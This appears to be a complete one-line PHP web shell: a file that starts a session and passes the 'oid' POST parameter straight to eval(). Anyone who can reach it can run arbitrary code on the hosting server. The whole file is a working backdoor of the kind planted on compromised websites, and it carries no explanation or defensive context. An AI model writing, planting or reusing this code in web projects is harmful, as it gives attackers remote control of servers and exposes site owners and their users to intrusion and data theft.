<?php
@session_start();
eval($_POST["oid"]);
